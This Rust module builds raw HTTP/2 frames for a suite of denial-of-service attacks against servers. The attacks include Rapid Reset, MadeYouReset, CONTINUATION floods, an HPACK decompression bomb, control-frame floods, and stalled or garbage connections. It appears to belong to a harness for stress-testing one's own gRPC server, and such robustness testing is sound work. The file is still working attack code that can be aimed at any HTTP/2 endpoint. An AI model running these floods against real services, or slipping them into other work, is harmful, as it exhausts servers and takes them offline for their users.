//! What a hostile peer writes: frames of HTTP/2 (RFC 9113), byte by byte, that no client library would send.
//!
//! Absent on purpose: reading. What comes back is thrown away.

/// The preface and an empty SETTINGS frame.
pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Frames of one write.
const BATCH: usize = 200;
/// Streams of one connection; then the next connection.
const STREAMS_MAX: u32 = 1 << 30;

/// One connection's worth of an attack: appends the next bytes to send.
pub(super) struct Script {
    pub attack: Attack,
    stream: u32,
    begun: bool,
}

/// What is tried.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// Opens streams and resets them (CVE-2023-44487).
    RapidReset,
    /// Has the server reset them (CVE-2025-8671).
    MadeYouReset,
    /// A header block without an end (CVE-2024-27316 and its kin).
    Continuation,
    EmptyData,
    SmallData,
    Settings,
    Ping,
    WindowUpdate,
    Priority,
    /// A block of a few kilobytes that unpacks to many megabytes (RFC 7541 section 7.3).
    HpackBomb,
    /// Says hello and then nothing.
    HalfOpen,
    /// Asks, and gives no window for the answer.
    NoWindow,
    /// Bytes that are no frames.
    Garbage,
}

pub(super) const ATTACKS: &[Attack] = &[
    Attack::RapidReset,
    Attack::MadeYouReset,
    Attack::Continuation,
    Attack::EmptyData,
    Attack::SmallData,
    Attack::Settings,
    Attack::Ping,
    Attack::WindowUpdate,
    Attack::Priority,
    Attack::HpackBomb,
    Attack::HalfOpen,
    Attack::NoWindow,
    Attack::Garbage,
];

impl Script {
    pub(super) fn new(attack: Attack) -> Self {
        Self { attack, stream: 1, begun: false }
    }

    /// The next bytes; empty: nothing more is said, and the connection is held.
    pub(super) fn next(&mut self) -> Vec<u8> {
        let mut out = Vec::new();
        if !std::mem::replace(&mut self.begun, true) {
            out.extend(PREFACE);
            self.begin(&mut out);
        }
        if matches!(self.attack, Attack::HalfOpen) {
            return out;
        }
        for _ in 0..BATCH {
            self.step(&mut out);
        }
        out
    }

    fn begin(&mut self, out: &mut Vec<u8>) {
        match self.attack {
            Attack::Continuation => frame(out, HEADERS, 0, 1, &request()),
            Attack::EmptyData | Attack::SmallData => {
                frame(out, HEADERS, END_HEADERS, 1, &request());
            }
            Attack::NoWindow => frame(out, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
            Attack::HpackBomb => {
                // One large field goes into the peer's table: literal with indexing (RFC 7541 section 6.2.1).
                let mut block = request();
                block.push(0x40);
                text(&mut block, "x-bomb");
                text(&mut block, &"b".repeat(3900));
                frame(out, HEADERS, END_HEADERS | END_STREAM, 1, &block);
                self.stream = 3;
            }
            Attack::RapidReset
            | Attack::MadeYouReset
            | Attack::Settings
            | Attack::Ping
            | Attack::WindowUpdate
            | Attack::Priority
            | Attack::HalfOpen
            | Attack::Garbage => {}
        }
    }

    fn step(&mut self, out: &mut Vec<u8>) {
        let stream = self.stream;
        match self.attack {
            Attack::RapidReset => {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &request());
                frame(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                self.advance();
            }
            Attack::MadeYouReset => {
                frame(out, HEADERS, END_HEADERS, stream, &request());
                frame(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
                self.advance();
            }
            Attack::Continuation => {
                let mut block = vec![0];
                text(&mut block, "x-more");
                text(&mut block, &"c".repeat(200));
                frame(out, CONTINUATION, 0, 1, &block);
            }
            Attack::EmptyData => frame(out, DATA, 0, 1, &[]),
            Attack::SmallData => frame(out, DATA, 0, 1, &[0]),
            Attack::Settings => frame(out, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Attack::Ping => frame(out, PING, 0, 0, &[7; 8]),
            Attack::WindowUpdate => frame(out, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Attack::Priority => {
                frame(out, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
                self.advance();
            }
            Attack::HpackBomb => {
                let mut block = request();
                // The newest entry of the table, again and again: 4 KB for each byte.
                block.extend([0xbe; 12_000]);
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                self.advance();
            }
            Attack::NoWindow => {
                frame(out, HEADERS, END_HEADERS, stream, &request());
                frame(out, DATA, END_STREAM, stream, &[0; 5]);
                self.advance();
            }
            Attack::Garbage => out.extend([0xff; 64]),
            Attack::HalfOpen => {}
        }
    }

    fn advance(&mut self) {
        self.stream = (self.stream + 2) % STREAMS_MAX;
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    out.extend(&length.to_be_bytes()[1..]);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
}

/// A length of seven bits and more, and the octets (RFC 7541 section 5.2), without Huffman.
fn text(block: &mut Vec<u8>, text: &str) {
    let mut length = text.len();
    if length < 127 {
        block.push(u8::try_from(length).unwrap_or(0));
    } else {
        block.push(127);
        length -= 127;
        while length >= 128 {
            block.push(u8::try_from(length % 128).unwrap_or(0) | 128);
            length /= 128;
        }
        block.push(u8::try_from(length).unwrap_or(0));
    }
    block.extend(text.as_bytes());
}

/// The header block of a call that needs no token.
fn request() -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // `:method: POST`, `:scheme: http`
    for (name, value) in [
        (":path", "/grpc.health.v1.Health/Check"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        block.push(0);
        text(&mut block, name);
        text(&mut block, value);
    }
    block
}
